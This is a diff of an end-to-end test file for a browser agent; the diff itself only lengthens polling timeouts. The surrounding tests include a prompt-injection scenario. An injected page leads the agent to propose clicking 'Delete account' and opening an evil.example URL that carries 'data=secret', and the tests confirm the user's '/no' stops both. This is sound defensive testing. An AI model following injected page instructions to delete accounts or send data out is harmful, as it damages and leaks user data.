@@ -28,7 +28,7 @@ const send = async (session: string, content: string, target: string | undefined
       'POST',
       `/my/chat/${session}/message/`,
       { content, ...(target && { target_agent: target }) },
-      { prefer: 'wait=25' },
+      { prefer: 'wait=60' },
     )
   ).body
 const start = (session: string, content: string) =>
@@ -122,7 +122,7 @@ describe('the browser agent with a model', () => {
     decide = (request) => (steps.shift() ?? (() => ({ text: 'x' })))(request)
     await start(session, `clean up on ${site.url}/hands and ${site.url}/rows`)
     await expect
-      .poll(async () => (await look(session)).pending_action, { timeout: 25_000 })
+      .poll(async () => (await look(session)).pending_action, { timeout: 60_000 })
       .toMatchObject({ element: { name: 'Delete', item: 'Anna writes Delete' } })
     expect((await send(session, '/yes', undefined)).reply?.content).toMatch(/Boris[^]*Clara[^]*deleted: Anna$/m)
   })
@@ -139,13 +139,13 @@ describe('the browser agent with a model', () => {
     await start(session, `say hello ten times on ${site.url}/gate`)
     const asks = async () =>
       (await call<{ items: { ask_id: string }[] }>(server, 'GET', `/my/chat/${session}/asks/?status=open`)).body.items
-    await expect.poll(async () => (await asks()).length, { timeout: 25_000 }).toBe(1)
+    await expect.poll(async () => (await asks()).length, { timeout: 60_000 }).toBe(1)
     const [first] = await asks()
     await call(server, 'POST', `/my/chat/${session}/asks/${first?.ask_id}/`, { action: 'approve', allow: 'session' })
     const said = async () =>
       (await call<{ items: { content: string }[] }>(server, 'GET', `/my/chat/${session}/messages/?role=assistant`)).body.items.at(-1)
         ?.content
-    await expect.poll(said, { timeout: 40_000 }).toBe('All ten are sent.')
+    await expect.poll(said, { timeout: 60_000 }).toBe('All ten are sent.')
     expect(await look(session)).toMatchObject({ status: 'idle', pending_kind: 'none' })
     expect(acts).toBe(10)
   })
@@ -162,12 +162,12 @@ describe('the browser agent with a model', () => {
     }
     await start(session, `read the recipe on ${site.url}/injection`)
     await expect
-      .poll(async () => (await look(session)).pending_action, { timeout: 25_000 })
+      .poll(async () => (await look(session)).pending_action, { timeout: 60_000 })
       .toMatchObject({ action: 'click', element: { name: 'Delete account' } })
     expect(seen(models.requests.at(-1) as ModelRequest).match(/<\/page>/g)).toHaveLength(1)
     await call(server, 'POST', `/my/chat/${session}/message/`, { content: '/no' })
     await expect
-      .poll(async () => (await look(session)).pending_action, { timeout: 25_000 })
+      .poll(async () => (await look(session)).pending_action, { timeout: 60_000 })
       .toMatchObject({ action: 'open', url: 'http://evil.example/?data=secret' })
     expect((await send(session, '/no', undefined)).reply?.content).toBe('I did nothing.')
     expect(site.requests).not.toContain('GET /deleted')
@@ -187,10 +187,10 @@ describe('the browser agent with a model', () => {
     await start(session, `tidy up on ${site.url}/injection`)
     const asks = async () =>
       (await call<{ items: { ask_id: string }[] }>(server, 'GET', `/my/chat/${session}/asks/?status=open`)).body.items
-    await expect.poll(async () => (await asks()).length, { timeout: 25_000 }).toBe(1)
+    await expect.poll(async () => (await asks()).length, { timeout: 60_000 }).toBe(1)
     const [first] = await asks()
     await call(server, 'POST', `/my/chat/${session}/asks/${first?.ask_id}/`, { action: 'reject', feedback: 'only archive the old one' })
-    await expect.poll(() => told, { timeout: 25_000 }).toContain('only archive the old one')
+    await expect.poll(() => told, { timeout: 60_000 }).toContain('only archive the old one')
   })
 
   test('N-10 B-04 B-14 it hands over, counts acts and not looks, and its own report ends in a question', async () => {
@@ -210,11 +210,11 @@ describe('the browser agent with a model', () => {
       return tool('wait', { ms: 1 })
     }
     await start(session, `wait on ${site.url}/many`)
-    await expect.poll(async () => (await look(session)).pending_kind, { timeout: 25_000 }).toBe('manual')
+    await expect.poll(async () => (await look(session)).pending_kind, { timeout: 60_000 }).toBe('manual')
     await call(server, 'POST', `/my/chat/${session}/message/`, { content: 'done' })
     const question = async () =>
       (await call<{ items: { text: string }[] }>(server, 'GET', `/my/chat/${session}/asks/?status=open`)).body.items[0]?.text
-    await expect.poll(question, { timeout: 25_000 }).toBe('Shall I go on?')
+    await expect.poll(question, { timeout: 60_000 }).toBe('Shall I go on?')
     const said = (await call<{ items: { content: string }[] }>(server, 'GET', `/my/chat/${session}/messages/?role=assistant`)).body.items
     expect(said.at(-1)?.content).toBe('Ten waits are done; I would wait on.')
     expect((await send(session, 'carry on', undefined)).reply?.content).toBe('Carried on.')
